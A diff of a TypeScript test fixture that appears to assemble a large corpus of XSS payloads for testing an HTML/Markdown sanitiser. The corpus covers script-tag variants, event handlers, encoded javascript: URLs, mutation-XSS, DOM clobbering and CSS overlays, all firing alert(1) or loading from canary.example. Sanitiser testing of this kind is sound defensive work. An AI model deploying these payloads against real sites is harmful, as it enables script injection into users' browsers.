@@ -1,3 +1,5 @@
+import { list } from '../helpers/costly-documents.ts';
+
 /** An article that tries to do something in a reader's browser. */
 export interface Payload {
   /** Its family and number. */
@@ -11,73 +13,60 @@ export interface Payload {
 export const canary = 'https://canary.example';
 
 const run = 'alert(1)';
+const image = `<img src=x onerror=${run}>`;
+const code = `javascript:${run}`;
 const svgFile = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script></svg>`;
 const page = `<script>parent.${run}</script><script>${run}</script>`;
 const base64 = (text: string) => Buffer.from(text).toString('base64');
-const words = (list: string) => list.trim().split(/\s+/);
-/** Splits a list of HTML at spaces: `·` is a space, and `@` what is inserted. */
-const htmlWith = (inserted: string) => (list: string) =>
-  words(list).map((html) => html.replaceAll('·', ' ').replaceAll('@', inserted));
+/** Splits a list, in which `°` is a backtick, and `@` what is inserted. */
+const listWith = (inserted: string) => (text: string) =>
+  list(text).map((each) => each.replaceAll('°', '`').replaceAll('@', inserted));
 const entities = (text: string, write: (code: number) => string) =>
   Array.from(text, (character) => write(character.codePointAt(0) ?? 0)).join('');
 
 const scripts = [
-  `<script>${run}</script>`,
-  `<SCRIPT>${run}</SCRIPT >`,
-  `<ScRiPt type="text/javascript">${run}</sCrIpT>`,
-  `<script\n>${run}</script\n>`,
-  `<script/x>${run}</script/x>`,
-  `<script src="${canary}/x.js"></script>`,
-  `<script src=//canary.example/x.js></script>`,
-  `<script type="module">${run}</script>`,
-  `<script type="module">import "${canary}/x.js"</script>`,
-  `<script type="importmap">{"imports":{"x":"${canary}/x.js"}}</script><script type="module">import "x"</script>`,
-  `<script src="data:text/javascript,${run}"></script>`,
+  ...listWith(run)(`
+  <script>@</script> <SCRIPT>@</SCRIPT·> <ScRiPt·type="text/javascript">@</sCrIpT> <script¶>@</script¶> <script>@
+  <script/x>@</script/x> <script·type="module">@</script> <script·src="data:text/javascript,@"></script>
+  <script><!--¶@</script> <scr<script>ipt>@</scr</script>ipt> <<script>@//<</script>
+  <script·for=window·event=onload>@</script> <script·language=vbscript>x</script><script>@</script>
+  <svg><script·xlink:href="data:,@"/></svg> <p><script>@</script></p> <svg><script>@</script></svg>
+  <svg><script>&#97;lert(1)</script></svg> <table><script>@</script></table> <select><script>@</script></select>
+  <ruby><rt><script>@</script></rt></ruby>`),
+  ...listWith(canary)(`
+  <script·src="@/x.js"></script> <script·src=//canary.example/x.js></script> <svg><script·href="@/x.js"/></svg>
+  <script·type="module">import·"@/x.js"</script>
+  <script·type="importmap">{"imports":{"x":"@/x.js"}}</script><script·type="module">import·"x"</script>`),
   `<script src="data:;base64,${base64(run)}"></script>`,
-  `<script><!--\n${run}</script>`,
-  `<p><script>${run}</script></p>`,
-  `<scr<script>ipt>${run}</scr</script>ipt>`,
-  `<<script>${run}//<</script>`,
-  `<script>confirm(1)`,
-  `<script for=window event=onload>${run}</script>`,
-  `<script language=vbscript>alert 1</script><script>${run}</script>`,
-  `<svg><script>${run}</script></svg>`,
-  `<svg><script href="${canary}/x.js"/></svg>`,
-  `<svg><script xlink:href="data:,${run}"/></svg>`,
-  `<svg><script>&#97;lert(1)</script></svg>`,
-  `<table><script>${run}</script></table>`,
-  `<select><script>${run}</script></select>`,
-  `<ruby><rt><script>${run}</script></rt></ruby>`,
 ];
 
 /** Elements that load or begin something by themselves, with a handler of the event. */
 const loading = [
-  ...words(`
+  ...list(`
   img:error img:load video:error video:loadstart audio:error image:error object:error embed:load body:load
   body:pageshow body:focus iframe:load link:load script:error track:error frameset:load isindex:error svg:load
   style:load math:load`).flatMap((pair, index) => {
-    const [tag, event] = pair.split(':');
+    const [tag = '', event] = pair.split(':');
     // Sources of different kinds, and the ways in which HTML separates and quotes attributes.
     const source = ['x', `${canary}/x.png`, 'data:,'].at(index % 3);
     const space = [' ', '/', '\n', '\t', '\f'].at(index % 5);
-    const handler = [run, `"${run}"`, `'${run}'`, `${entities(run, (code) => `&#${code};`)}`].at(
-      index % 4,
-    );
+    const written = [run, `"${run}"`, `'${run}'`, entities(run, (value) => `&#${value};`)];
+    const attributes = ['', `src="${source}"`, `data="${source}"`, `href="${canary}/x.css"`];
+    const handler = `ON${event}${space === '/' ? '' : space}=${written.at(index % 4)} >`;
     return [
       `<${tag} src=x data=x on${event}=${run}>`,
-      `<${tag?.toUpperCase()}${space}src="${source}"${space}data="${source}"${space}href="${canary}/x.css"${space}rel=stylesheet${space}ON${event}${space === '/' ? '' : space}=${handler} >`,
+      `<${tag.toUpperCase()}${[...attributes, 'rel=stylesheet', handler].join(space)}`,
     ];
   }),
-  ...words(`
-  animate:begin set:begin image:error use:load style:load`).map((pair) => {
+  ...list('animate:begin set:begin image:error use:load style:load').map((pair) => {
     const [tag, event] = pair.split(':');
     return `<svg><${tag} href=x attributeName=x dur=1s on${event}=${run}></${tag}></svg>`;
   }),
-  ...words('input a xss video').map(
+  ...list('input a xss video').map(
     (tag) => `<${tag} href=# contenteditable autofocus tabindex=0 onfocus=${run}>x</${tag}>`,
   ),
   `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${run}">x</b>`,
-  ...htmlWith(run)(`
+  ...listWith(run)(`
   <img·src=x·onerror=@// <img·"""><img·src=x·onerror=@>">
   <img·src=x·id=x·name=y·title=z·alt=w·onerror=@·onerror=none> <img·srcset=x·onerror=@>
   <picture><source·srcset=x><img·onerror=@></picture> <video><source·onerror=@></video>
@@ -87,28 +76,23 @@ const loading = [
   <math·onload=@><mtext><img·src=x·onerror=@></mtext></math>`),
 ];
 
-const events =
-  'click dblclick mousedown mouseup mouseover mouseout mousemove mouseenter mouseleave pointerdown ' +
-  'pointerup pointerover pointerenter pointermove focus focusin blur keydown keyup contextmenu wheel ' +
-  'dragstart copy cut paste beforecopy auxclick touchstart';
-const handlers = events
-  .split(' ')
-  .map((name, index) =>
+/** Handlers of what readers do. */
+const handlers = [
+  ...list(`
+  click dblclick mousedown mouseup mouseover mouseout mousemove mouseenter mouseleave pointerdown pointerup pointerover
+  pointerenter pointermove focus focusin blur keydown keyup contextmenu wheel dragstart copy cut paste beforecopy
+  auxclick touchstart`).map((name, index) =>
     [
       `<b tabindex="0" on${name}="${run}">x</b>`,
       `<a href="#x" ON${name.toUpperCase()}='${run}'>x</a>`,
       `<p tabindex=0 on${name}\n=\n${run}>x</p>`,
     ].at(index % 3),
-  );
-const interactive = [
-  ...['summary', 'label', 'button', 'svg width=9 height=9', 'table><tr><td', 'video controls'].map(
-    (tag) => `<${tag} onclick=${run}>x`,
   ),
-  ...['- [x] ', '| a |\n| - |\n| ', '# ', 'a[^1]\n\n[^1]: '].map(
-    (start) => `${start}<b onclick=${run}>x</b>`,
-  ),
+  ...list(`
+  <summary <label <button <svg·width=9·height=9 <table><tr><td <video·controls -·[x]·<b |·a·|¶|·-·|¶|·<b #·<b
+  a[^1]¶¶[^1]:·<b`).map((start) => `${start} onclick=${run}>x`),
   `<body onscroll=${run}>${'<br>'.repeat(100)}x`,
-  ...htmlWith(run)(`
+  ...listWith(run)(`
   <details·ontoggle=@><summary>x</summary></details> <input·type=checkbox·onchange=@>
   <form·onsubmit=@><button>x</button></form>
   <form·oninvalid=@><input·required·oninvalid=@><button>x</button></form>
@@ -118,42 +102,36 @@ const interactive = [
   <map·name=m><area·href=#·onclick=@·shape=default></map><img·usemap=#m·src=x>`),
 ];
 
-const code = `javascript:${run}`;
-const bare = [
-  code,
-  'JAVASCRIPT:alert(1)',
-  'JaVaScRiPt:alert(1)',
-  'javascript:alert(1)//http://a.example/',
-  'javascript://a.example/%0aalert(1)',
-  'javascript:%61lert(1)',
-  'javascript:void(alert(1))',
-  `javascript:'<script>${run}</script>'`,
-];
+const bare = listWith(run)(`
+  javascript:@ JAVASCRIPT:@ JaVaScRiPt:@ javascript:@//http://a.example/ javascript://a.example/%0a@
+  javascript:%61lert(1) javascript:void(@) javascript:'<script>@</script>'`);
 const encoded = [
   ...bare,
-  entities(code, (value) => `&#${value};`),
-  entities(code, (value) => `&#x${value.toString(16)};`),
-  entities(code, (value) => `&#X${value.toString(16).toUpperCase()};`),
-  entities(code, (value) => `&#${String(value).padStart(7, '0')};`),
-  entities(code, (value) => `&#${value}`),
-  ...words(`
+  ...[
+    (value: number) => `&#${value};`,
+    (value: number) => `&#x${value.toString(16)};`,
+    (value: number) => `&#X${value.toString(16).toUpperCase()};`,
+    (value: number) => `&#${String(value).padStart(7, '0')};`,
+    (value: number) => `&#${value}`,
+  ].map((write) => entities(code, write)),
+  ...list(`
   javascript&colon;alert(1) javascript&#58;alert(1) javascript&#x3a;alert&lpar;1&rpar; &#106;avascript:alert(1)
   java&Tab;script:alert(1) java&NewLine;script:alert(1) java&#9;script:alert(1) java&#10;script:alert(1)
   java&#13;script:alert(1) java&#x0D;&#x0A;script&#9;:alert(1) j&#9;a&#9;v&#9;a&#9;s&#9;c&#9;r&#9;i&#9;p&#9;t:alert(1)
-  &#1;javascript:alert(1) &#14;javascript:alert(1) &#x1f;&#x20;javascript:alert(1)`),
-  ...['\t', '\n', '\r'].map((sign) => `java${sign}script:alert(1)`),
-  ...['\u0001', '\u001b', '   ', '\n\t', ' &#14;  '].map((sign) => sign + code),
-  ...['\t', '\n'].map((sign) => `javascript${sign}:alert(1)`),
+  &#1;javascript:alert(1) &#14;javascript:alert(1) &#x1f;&#x20;javascript:alert(1) java¶script:alert(1)
+  javascript¶:alert(1) ···javascript:alert(1) ·&#14;··javascript:alert(1)`),
+  ...['java\tscript:', 'java\rscript:', 'javascript\t:'].map((start) => start + run),
+  ...['\u0001', '\u001b', '\n\t'].map((sign) => sign + code),
 ];
 const odd = [
   ...['\u00a0', '\ufeff', '\u200b', '\u2028'].map((sign) => sign + code),
   ...['\u0000', '&#0;', '\u00ad'].map((sign) => `java${sign}script:alert(1)`),
-  ...words(`
+  ...list(`
   ｊavascript:alert(1) javaſcript:alert(1) javascript：alert(1) vbscript:msgbox(1) view-source:javascript:alert(1)
   blob:javascript:alert(1) filesystem:javascript:alert(1) about:blank#javascript:alert(1) data:,alert(1)
-  data:text/html,<script>alert(1)</script> DATA:text/html,x da&#9;ta:text/html,x`),
+  data:text/html,<script>alert(1)</script> DATA:text/html,x da&#9;ta:text/html,x
+  data:image/svg+xml,<svg·onload=alert(1)>`),
   `data:text/html;base64,${base64(page)}`,
-  'data:image/svg+xml,<svg onload=alert(1)>',
 ];
 const urls = [
   ...[...encoded, ...odd].map((url) => `<a href="${url.replaceAll('"', '&quot;')}">x</a>`),
@@ -161,10 +139,9 @@ const urls = [
   ...encoded.slice(10, 20).map((url) => `<a target=_self HREF = ${url}>x</a>`),
 ];
 
-const carriers = [
-  ...[code, 'java&#10;script:alert(1)', '&#1;JavaScript:alert(1)'].flatMap((url) => [
-    ...htmlWith(url)(`
-  <a·href='@'·target=_blank>x</a> <a·xlink:href="@">x</a>
+const carriers = [code, 'java&#10;script:alert(1)', '&#1;JavaScript:alert(1)'].flatMap((url) =>
+  listWith(url)(`
+  <a·href='@'·target=_blank>x</a> <a·xlink:href="@">x</a> <a·href=°@°>x</a>
   <map·name=m><area·shape=default·href="@"></map><img·usemap=#m·src=x·width=9·height=9>
   <form·action="@"><button>x</button></form> <form·action="@"><input·type=submit></form>
   <form·id=f·action="@"></form><button·form=f>x</button> <form><button·formaction="@">x</button></form>
@@ -179,9 +156,7 @@ const carriers = [
   <table·background="@"><tr><td·background="@">x</td></tr></table> <blockquote·cite="@">x</blockquote>
   <link·rel=stylesheet·href="@"> <a·href=#·ping="@">x</a> <object><param·name=code·value="@"></object>
   <portal·src="@"></portal>`),
-    `<a href=\`${url}\`>x</a>`,
-  ]),
-];
+);
 
 const documents = [
   `data:text/html,${page}`,
@@ -190,32 +165,33 @@ const documents = [
   `${canary}/page.html`,
 ];
 const frames = [
-  ...documents.flatMap((address) => [
-    `<iframe src="${address}"></iframe>`,
-    `<object data="${address}"></object>`,
-    `<object type="text/html" data=${address.replaceAll(' ', '%20')}></object>`,
-    `<embed src="${address}">`,
-  ]),
+  ...documents.flatMap((address) =>
+    listWith(address)(`
+  <iframe·src="@"></iframe> <object·data="@"></object> <object·type="text/html"·data="@"></object> <embed·src="@">`),
+  ),
   `<iframe srcdoc="${page}"></iframe>`,
-  `<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>`,
-  `<iframe sandbox="allow-scripts" srcdoc="<script>${run}</script>"></iframe>`,
-  `<iframe name=x></iframe><a target=x href="${code}">x</a>`,
   `<embed type="image/svg+xml" src="${canary}/x.svg">`,
-  `<fencedframe></fencedframe><iframe srcdoc="<svg onload=parent.alert(1)>">`,
+  ...listWith(run)(`
+  <iframe·srcdoc='&lt;script&gt;parent.@&lt;/script&gt;'></iframe>
+  <iframe·sandbox="allow-scripts"·srcdoc="<script>@</script>"></iframe>
+  <iframe·name=x></iframe><a·target=x·href="javascript:@">x</a>
+  <fencedframe></fencedframe><iframe·srcdoc="<svg·onload=parent.@>">`),
 ];
 
+/** Elements that make the page request or open something else. */
 const elsewhere = [
   `<meta http-equiv="refresh" content="0;url=data:text/html,${page}">`,
-  ...words('stylesheet preload modulepreload prefetch').flatMap((rel) => [
+  ...list('stylesheet preload modulepreload prefetch').flatMap((rel) => [
     `<link rel=${rel} as=script href=${canary}/x.js>`,
     `<link rel="${rel}" as="style" href="${canary}/x.css">`,
   ]),
-  ...[`@import '${canary}/x.css';`, `@import url(${canary}/x.css)`].flatMap((rule) => [
-    `<style>${rule}</style>`,
-    `<svg><style>${rule}</style></svg>`,
-  ]),
+  ...[`@import '${canary}/x.css';`, `@import url(${canary}/x.css)`].flatMap((rule) =>
+    ['<style></style>', '<svg><style></style></svg>'].map((html) =>
+      html.replace('></style', `>${rule}</style`),
+    ),
+  ),
   `<style>@font-face{font-family:x;src:url(${canary}/x.woff)}b{font-family:x}</style><b>x</b>`,
-  ...htmlWith(canary)(`
+  ...listWith(canary)(`
   <meta·http-equiv="refresh"·content="0;url=@/"> <META·HTTP-EQUIV=refresh·CONTENT=0;@/>
   <base·href="@/"><a·href="x">x</a> <base·target=_blank><a·href=/>x</a>
   <form·action="@/"·method=post><button>x</button></form>
@@ -223,8 +199,9 @@ const elsewhere = [
   <button·formaction="@/"·form=f>x</button><form·id=f></form> <a·href=#·ping="@/">x</a>`),
 ];
 
+/** HTML that parsers move, or read in another way the second time. */
 const mutation = [
-  ...htmlWith(`<img src=x onerror=${run}>`)(`
+  ...listWith(image)(`
   <noscript><p·title="</noscript>@"></noscript> <noscript><style></noscript>@</style></noscript>
   <noscript><!--</noscript>@--></noscript> <noscript><textarea></noscript>@</textarea> <template>@</template>
   <template><template></template></template>@ <template·shadowrootmode=open>@</template>
@@ -243,249 +220,160 @@ const mutation = [
   <select><style></select>@</style> <table><tr><td><svg><desc><table>@
   <frameset><noframes></noframes></frameset>@ <plaintext>@ <a·title="</a>@">x</a> <p·class='language-">@'>x</p>
   <p·style='color:">@'>x</p> <p·lang="-->@">x</p> <p·is=x-y><x-y>@</x-y></p> <dialog·open>@</dialog>
-  <video><noscript></video>@</noscript> <button><button>@`),
-  `<div><template shadowrootmode=open><script>${run}</script></template></div>`,
-  `<svg><p><style><a id="</style><img src=1 onerror=${run}>"></p></svg>`,
+  <video><noscript></video>@</noscript> <button><button>@ <svg><p><style><a·id="</style>@"></p></svg>
+  <form><math><mtext></form><form><mglyph><style></math>@ <p·title="°@">x</p>
+  <math><mtext><mglyph><svg><mtext><textarea><path·id="</textarea>@">
+  <math><annotation-xml·encoding=application/xhtml+xml><style>@</style></annotation-xml></math>
+  <math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a·title="</style>@"></style></h1>
+  <svg><script>&lt;/script>@</script></svg>@`),
+  ...listWith(`&lt;img src=x onerror=${run}&gt;`)(`
+  <math><mtext><table><mglyph><style><!--</style><img·title="--&gt;@"> <listing>@</listing> <p·title="@">@</p>
+  <p·id="&quot;&gt;@">x</p>`),
+  ...listWith(`<script>${run}</script>`)(`
+  <div><template·shadowrootmode=open>@</template></div> <!--[if·gte·IE·4]>@<![endif]--> <b·@0
+  <img·alt="</p>@"·src=x>`),
+  ...listWith(run)(`
+  <img·alt="&quot;·onerror=@·x=&quot;"·src=x> <code>&lt;script&gt;@&lt;/script&gt;</code>
+  <table><a·href="javascript:@">x<tr><td><a·href="javascript:@">x</table>
+  <a><table><a·href="javascript:@">x</a></table></a> <img·__ASTRO_IMAGE_='{"src":"javascript:@","onerror":"@"}'>
+  <img·__ASTRO_IMAGE_='{"src":"x\\"·onerror=@·y=\\"","alt":"\\"·onerror=@·\\""}'>`),
   `<svg><foreignobject><iframe srcdoc="${page}"></iframe></foreignobject></svg>`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
-  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
-  `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>">`,
-  `<math><annotation-xml encoding=application/xhtml+xml><style><img src=x onerror=${run}></style></annotation-xml></math>`,
-  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${run}>"></style></h1>`,
-  `<svg><script>&lt;/script>&lt;img src=x onerror=${run}></script></svg><img src onerror=${run}>`,
-  `<!--[if gte IE 4]><script>${run}</script><![endif]--><img src onerror=${run}>`,
-  `<listing>&lt;img src=x onerror=${run}&gt;</listing>`,
-  `<p title="&lt;img src=x onerror=${run}&gt;">&lt;img src=x onerror=${run}&gt;</p>`,
-  `<p title="\`<img src=x onerror=${run}>">x</p>`,
-  `<table><a href="${code}">x<tr><td><a href="${code}">x</table>`,
-  `<a><table><a href="${code}">x</a></table></a>`,
-  `<b <script>${run}</script>0`,
-  `<img alt="</p><script>${run}</script>" src=x>`,
-  `<img alt="&quot; onerror=${run} x=&quot;" src=x>`,
-  `<code>&lt;script&gt;${run}&lt;/script&gt;</code>`,
-  `<p id="&quot;&gt;&lt;img src=x onerror=${run}&gt;">x</p>`,
-  `<img __ASTRO_IMAGE_='{"src":"javascript:alert(1)","onerror":"${run}"}'>`,
-  `<img __ASTRO_IMAGE_='{"src":"x\\" onerror=${run} y=\\"","alt":"\\" onerror=${run} \\""}'>`,
-  `${'<b>'.repeat(600)}<img src=x onerror=${run}>`,
+  `${'<b>'.repeat(600)}${image}`,
 ];
 
+/** Names that become properties of `window` or `document`. */
 const clobbering = [
-  `<A ID="siteConfig" HREF="data:,${run}">x</A>`,
-  ...'cookie body getElementById querySelector createElement forms currentScript head title scripts'
-    .split(' ')
-    .map((name, index) =>
-      [
-        `<img name=${name} src=x>`,
-        `<form name="${name}"></form>`,
-        `<embed NAME=${name}>`,
-        `<iframe name=${name}></iframe>`,
-        `<object id=${name}></object>`,
-      ].at(index % 5),
-    ),
+  ...list(`
+  cookie body getElementById querySelector createElement forms currentScript head title scripts`).map(
+    (name, index) =>
+      listWith(name)(`
+  <img·name=@·src=x> <form·name="@"></form> <embed·NAME=@> <iframe·name=@></iframe> <object·id=@></object>`).at(
+        index % 5,
+      ),
+  ),
   '<form><input name=attributes><input name=parentNode><input name=nodeName></form><img name=cookie>',
   '<form id=body name=body></form><img id=forms name=forms>',
-  ...htmlWith(canary)(`
+  `<A ID="siteConfig" HREF="data:,${run}">x</A>`,
+  ...listWith(canary)(`
   <a·id=siteConfig·href="@/x.js">x</a> <a·id=siteConfig></a><a·id=siteConfig·name=url·href="@/x.js"></a>
   <a·name=siteConfig·href="@/x.js">x</a> <map><area·id=siteConfig·href="@/x.js"></map>
   <a·id="siteConfig"·data-footnote-ref·href="@/x.js">x</a>
   <sup><a·id=siteConfig·href="//canary.example/x.js">x</a></sup>`),
 ];
 
-const styles = [
-  'position:fixed;inset:0;z-index:99999;background:red',
-  'POSITION: absolute; top:0; left:0; width:100vw; height:100vh; z-index: 9',
-  'pos\\69tion:fixed;inset:0;background:red',
-  'color:red;/*;*/position:/**/fixed;inset:0',
-  'color:red}*{position:fixed',
-  'margin-top:-5000px;height:6000px;position:relative',
-  'transform:translateY(-500px) scale(99);position:relative',
-  '--x:fixed;position:var(--x);inset:0;all:unset;position&#58;fixed',
-  'float:left;margin-top:-900px;height:2000px;width:100%;position:relative',
-  'box-shadow:0 0 0 9999px red;outline:9999px solid red;position:sticky;top:0',
-].map((style) => `<div style="${style}"><a href="${canary}/covers">x</a></div>`);
-const over = `position:absolute;inset:0;background:red`;
-const nestedStyles = [
-  `<div style="position:static"><a style="${over}" href="${canary}/covers">x</a></div>`,
-  `<div style="position:relative;display:contents"><a style="${over}" href="${canary}/covers">x</a></div>`,
-  `<p style="position:relative;position:static!important"><a style="${over}" href="${canary}/covers">x</a></p>`,
-  `${'<span style="font-size:300%;line-height:0">'.repeat(8)}<a href="${canary}/covers">x</a>`,
-  `${'<h1><div>'.repeat(8)}<a style="position:relative;top:-1em" href="${canary}/covers">x</a>`,
-  `${'<big>'.repeat(20)}<a style="margin-left:-2em" href="${canary}/covers">x</a>`,
-];
+const link = `<a href="${canary}/covers">x</a>`;
+const coveringLink = link.replace(' ', ' style="position:absolute;inset:0;background:red" ');
 const overlays = [
-  ...styles,
-  ...nestedStyles,
-  `<a class="cover footnotes" href="${canary}/">x</a>`,
-  `<p style="background-color:url(${canary}/x.css)">x</p><link rel=stylesheet href=${canary}/x.css>`,
-  `<p style="-moz-binding:url(${canary}/x.xml);behavior:url(x)">x</p><svg onload=${run}>`,
-  ...htmlWith(run)(`
+  ...list(`
+  position:fixed;inset:0;z-index:99999;background:red pos\\69tion:fixed;inset:0;background:red
+  POSITION:·absolute;·top:0;·left:0;·width:100vw;·height:100vh;·z-index:·9
+  color:red;/*;*/position:/**/fixed;inset:0 color:red}*{position:fixed
+  margin-top:-5000px;height:6000px;position:relative transform:translateY(-500px)·scale(99);position:relative
+  --x:fixed;position:var(--x);inset:0;all:unset;position&#58;fixed
+  float:left;margin-top:-900px;height:2000px;width:100%;position:relative
+  box-shadow:0·0·0·9999px·red;outline:9999px·solid·red;position:sticky;top:0`).map(
+    (style) => `<div style="${style}">${link}</div>`,
+  ),
+  ...list(`
+  position:static position:relative;display:contents position:relative;position:static!important`).map(
+    (style) => `<div style="${style}">${coveringLink}</div>`,
+  ),
+  `${'<span style="font-size:300%;line-height:0">'.repeat(8)}${link}`,
+  `${'<h1><div>'.repeat(8)}${link.replace(' ', ' style="position:relative;top:-1em" ')}`,
+  `${'<big>'.repeat(20)}${link.replace(' ', ' style="margin-left:-2em" ')}`,
+  ...listWith(canary)(`
+  <a·class="cover·footnotes"·href="@/">x</a>
+  <p·style="background-color:url(@/x.css)">x</p><link·rel=stylesheet·href=@/x.css>
+  <p·style="-moz-binding:url(@/x.xml);behavior:url(x)">x</p><svg·onload=alert(1)>
+  <p·style="color:expression(alert(1))">x</p><svg·onload=alert(1)>
+  <p·style="background-image:url('javascript:alert(1)')">x</p><svg·onload=alert(1)>
   <style>.x{position:fixed;inset:0}</style><a·class=x·href=/>x</a> <style>*{display:none!important}</style>
   <div·class="cover">x</div> <span·class="line·cover">x</span>
   <div·id=cover>x</div><style>#cover{position:fixed;inset:0}</style>
-  <dialog·open·style="position:fixed;inset:0;width:100vw;height:100vh">x</dialog>
-  <p·style="color:expression(@)">x</p><svg·onload=@>
-  <p·style="background-image:url('javascript:@')">x</p><svg·onload=@>`),
+  <dialog·open·style="position:fixed;inset:0;width:100vw;height:100vh">x</dialog>`),
 ];
 
 const unclosed = [
-  ...words(`
+  ...list(`
   textarea title style script template noembed noframes iframe xmp plaintext noscript select div table ul b a button
   form details dialog svg math ruby object marquee audio video`).map(
     (name) => `<${name}>\n\n*swallowed*`,
   ),
-  ...[
-    '<!-- ',
-    '<!--',
-    '<![CDATA[ ',
-    '<? ',
-    '<!A ',
-    '<img alt="',
-    "<a href='",
-    '<div title="\n\n',
-  ].map((start) => `${start}swallowed`),
-  ...htmlWith('')(`
-  <b·hidden> <div·hidden>·swallowed <table><tr><td> <table><caption> <svg><foreignObject><textarea>
-  <math><mtext><textarea> <select><option> </article></main><div>escaped
-  </div></article></main></body></html><b>escaped </p></article><plaintext> <body·hidden><html·hidden>
-  <details><summary>x`),
+  ...list(`
+  <!--·x <!--x <![CDATA[·x <?·x <!A·x <img·alt="x <a·href='x <div·title="¶¶x <b·hidden> <div·hidden>·x <table><tr><td>
+  <table><caption> <svg><foreignObject><textarea> <math><mtext><textarea> <select><option> </article></main><div>x
+  </div></article></main></body></html><b>x </p></article><plaintext> <body·hidden><html·hidden> <details><summary>x`),
 ].map((html) => `text\n\n${html}`);
 
+/** Text that Markdown turns into elements, attributes or URLs. */
 const markdown = [
-  ...bare.map((url) => `[x](${url.includes('<') || url.includes("'") ? `<${url}>` : url})`),
-  ...words(
-    'javascript: JavaScript: javascript&colon; java&Tab;script: &#106;avascript: &#x1;javascript: java&#10;script:',
-  ).flatMap((scheme) => [`[x](<${scheme}${run}>)`, `[x](< ${scheme}${run}>)`, `<${scheme}${run}>`]),
-  `[x][1]\n\n[1]: javascript:${run}`,
-  `[x]\n\n[x]: <javascript:${run}> "title"`,
-  `[x][]\n\n[X]:\n  JAVASCRIPT:${run}`,
-  `[![x](x)](javascript:${run})`,
-  `![x](javascript:${run})`,
-  `![x](x"onerror="${run})`,
-  `![x](x 'a" onerror="${run}')`,
-  `![" onerror="${run}](x)`,
-  `![x]\n\n[x]: x"onerror="${run}`,
-  `[x](x "\\" onmouseover=\\"${run}")`,
-  `[x](https://a.example/"onclick="${run})`,
-  `[x](data:text/html,<script>${run}</script>)`,
-  `[x](data:text/html;base64,${base64(page)})`,
-  `a[^"><img src=x onerror=${run}>]\n\n[^"><img src=x onerror=${run}>]: b`,
-  `a[^1]\n\n[^1]: <img src=x onerror=${run}>`,
-  `a[^1]\n\n[^1]: [x](javascript:${run})`,
-  `\`\`\`"><img src=x onerror=${run}>\nx\n\`\`\``,
-  `\`\`\`js "><img src=x onerror=${run}>\nx\n\`\`\``,
-  `~~~<script>${run}</script>\nx\n~~~`,
-  `\`\`\`html\n<script>${run}</script>\n\`\`\``,
-  `\`\`\`html\n</code></pre><img src=x onerror=${run}>\n\`\`\``,
-  `# <img src=x onerror=${run}>`,
-  `# "><script>${run}</script>`,
-  `## [x](javascript:${run})`,
-  `# x {#"onclick="${run}}`,
-  `| <img src=x onerror=${run}> |\n| - |\n| [x](javascript:${run}) |`,
-  `*a <b\n onmouseover=${run}>x</b>*`,
-  `<div>\n\n[x](javascript:${run})\n\n</div>`,
-  `<details><summary>\n\n<img src=x onerror=${run}>\n\n</summary></details>`,
-  `<a href="javascript\n:${run}">*x*</a>`,
-  `\\<script>${run}</script>`,
-  `&lt;script&gt;${run}&lt;/script&gt;<script>${run}</script>`,
-  `http://a.example/"onclick="${run}`,
-  `www.a.example/"><img/src=x/onerror=${run}>`,
+  ...bare.map((url) => `[x](${/[<']/.test(url) ? `<${url}>` : url})`),
+  ...list(`
+  javascript: JavaScript: javascript&colon; java&Tab;script: &#106;avascript: &#x1;javascript: java&#10;script:`).flatMap(
+    (scheme) => listWith(scheme + run)('[x](<@>) [x](<·@>) <@>'),
+  ),
+  ...listWith(code)(`
+  [x][1]¶¶[1]:·@ [x]¶¶[x]:·<@>·"title" [x][]¶¶[X]:¶··@ [![x](x)](@) ![x](@) a[^1]¶¶[^1]:·[x](@) ##·[x](@)
+  <div>¶¶[x](@)¶¶</div> |·a·|¶|·-·|¶|·[x](@)·|`),
+  ...[`data:text/html,<script>${run}</script>`, `data:text/html;base64,${base64(page)}`].map(
+    (url) => `[x](${url})`,
+  ),
+  ...listWith(image)(`
+  a[^">@]¶¶[^">@]:·b a[^1]¶¶[^1]:·@ °°°">@¶x¶°°° °°°js·">@¶x¶°°° °°°html¶</code></pre>@¶°°° #·@ |·@·|¶|·-·|
+  <details><summary>¶¶@¶¶</summary></details> <!--·°°°·-->@¶¶°°° import·x·from·'x'¶¶{alert(1)}¶¶@
+  www.a.example/">@`),
+  ...listWith(`<script>${run}</script>`)(`
+  ~~~@¶x¶~~~ °°°html¶@¶°°° #·">@ \\@ &lt;script&gt;x&lt;/script&gt;@ ---¶title:·@¶---¶@`),
+  ...listWith(run)(`
+  ![x](x"onerror="@) ![x](x·'a"·onerror="@') !["·onerror="@](x) ![x]¶¶[x]:·x"onerror="@
+  [x](x·"\\"·onmouseover=\\"@") [x](https://a.example/"onclick="@) #·x·{#"onclick="@} *a·<b¶·onmouseover=@>x</b>*
+  <a·href="javascript¶:@">*x*</a> http://a.example/"onclick="@ :::note{onclick="@"}¶x¶:::¶¶<svg·onload=@>`),
   `a@b.example"onclick="${run}`,
-  `---\ntitle: <script>${run}</script>\n---\n<script>${run}</script>`,
-  `<!-- \`\`\` --><img src=x onerror=${run}>\n\n\`\`\``,
-  `import x from 'x'\n\n{alert(1)}\n\n<img src={x} onerror=${run}>`,
-  `:::note{onclick="${run}"}\nx\n:::\n\n<svg onload=${run}>`,
 ];
 
+/** Fields that a page shows besides the text. */
 const fields = [
-  ...[
-    `<script>${run}</script>`,
-    `"><img src=x onerror=${run}>`,
-    `'><svg onload=${run}>`,
-    `</title><script>${run}</script>`,
-    `</h1></main><img src=x onerror=${run}>`,
-    `\${alert(1)}{alert(1)}`,
-    `--><img src=x onerror=${run}>`,
-    `<!--`,
-    `&lt;img src=x onerror=${run}&gt;`,
-    `javascript:${run}`,
-  ].map((title) => ({ title, content: 'Text.' })),
-  ...[
-    code,
-    'JAVA\tSCRIPT:alert(1)',
-    '\u0001javascript:alert(1)',
-    `data:text/html,${page}`,
-    `data:image/svg+xml,${svgFile}`,
-    `x" onerror="${run}`,
-    `${canary}/x.png" onload="${run}`,
-    'blob:https://a.example/x',
-    'vbscript:x',
